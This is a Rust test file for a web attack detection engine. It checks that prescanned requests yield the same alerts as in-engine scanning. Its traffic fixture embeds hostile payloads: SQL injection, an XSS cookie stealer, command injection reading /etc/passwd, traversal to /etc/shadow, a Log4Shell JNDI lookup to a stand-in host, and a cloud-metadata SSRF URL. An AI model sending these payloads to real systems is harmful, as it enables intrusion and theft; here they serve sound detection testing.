//! Request scans run ahead of detection (in the decoding workers) give the engine exactly the
//! answers it would have found by scanning itself, with one shard or several.

mod engine_util;

use apiwatch_core::{Alert, Event};
use apiwatch_detect::pack::builtin_sources;
use apiwatch_detect::{Engine, Limits, Prescan, Prescanner, RuleSet};
use engine_util::*;
use serde_json::json;
use std::sync::Arc;

fn pack() -> Arc<RuleSet> {
    let sources: Vec<(String, String)> =
        builtin_sources().into_iter().map(|(n, t)| (n.to_string(), t.to_string())).collect();
    Arc::new(RuleSet::from_sources(&sources).expect("the built-in pack loads"))
}

/// Benign requests and attacks in every place a request scan looks, repeated (so that the
/// scanners' memos answer some of them) from a handful of addresses.
fn traffic() -> Vec<Event> {
    let payloads = [
        "1' OR '1'='1' --",
        "<script>alert(document.cookie)</script>",
        "; cat /etc/passwd",
        "../../../../etc/shadow",
        "${jndi:ldap://198.51.100.7/a}",
        "{{7*7}}",
        "http://169.254.169.254/latest/meta-data/",
        "{\"$ne\": null}",
        "report-2026.pdf",
        "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0",
    ];
    let mut out = Vec::new();
    let mut t = 0;
    for round in 0..30 {
        for (i, p) in payloads.iter().enumerate() {
            let ip = format!("198.51.100.{}", (round + i) % 7);
            let encoded: String = p
                .bytes()
                .map(|b| {
                    if b.is_ascii_alphanumeric() {
                        (b as char).to_string()
                    } else {
                        format!("%{b:02X}")
                    }
                })
                .collect();
            let fields = match (round + i) % 4 {
                0 => {
                    json!({"source.ip": ip, "url.path": "/api/search", "url.query": format!("q={encoded}"),
                            "http.request.method": "GET", "http.response.status_code": 200})
                }
                1 => json!({"source.ip": ip, "url.path": format!("/files/{encoded}"),
                            "http.request.method": "GET", "http.response.status_code": 404}),
                2 => json!({"source.ip": ip, "url.path": "/api/items", "user_agent.original": p,
                            "http.request.method": "GET", "http.response.status_code": 200}),
                _ => {
                    json!({"source.ip": ip, "url.path": "/api/items", "http.request.method": "POST",
                            "http.request.headers": {"x-forwarded-host": p, "referer": format!("https://example.com/?r={encoded}")},
                            "http.response.status_code": 200})
                }
            };
            t += 1_500;
            out.push(ev(t, fields));
        }
    }
    out
}

fn run(
    set: &Arc<RuleSet>,
    shards: usize,
    events: &[Event],
    prescans: Option<&[Prescan]>,
) -> Vec<String> {
    let mut all: Vec<Alert> = Vec::new();
    for shard in 0..shards {
        let mut engine = Engine::new(Arc::clone(set), Limits::default(), shard, shards);
        for (i, e) in events.iter().enumerate() {
            match prescans {
                Some(p) => engine.process_prescanned(e, p[i], &mut all),
                None => engine.process(e, &mut all),
            }
        }
        engine.finish(&mut all);
    }
    all.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
    all.iter().map(Alert::to_json_line).collect()
}

#[test]
fn prescanned_requests_give_the_alerts_of_scanning_in_the_engine() {
    let set = pack();
    let events = traffic();
    let mut scanner = Prescanner::new(Arc::clone(&set));
    let prescans: Vec<Prescan> = events.iter().map(|e| scanner.scan(e)).collect();
    let with_attacks = prescans.iter().filter(|p| !p.found().is_empty()).count();
    assert!(with_attacks > events.len() / 2, "only {with_attacks} events had attacks found");
    for shards in [1, 3] {
        let scanned_here = run(&set, shards, &events, None);
        let scanned_ahead = run(&set, shards, &events, Some(&prescans));
        assert!(
            scanned_here.iter().any(|a| a.contains("\"rule\":\"injection-")),
            "no injection rule fired: the test would not see a wrong scan"
        );
        assert_eq!(scanned_here, scanned_ahead, "{shards} shard(s)");
    }
}
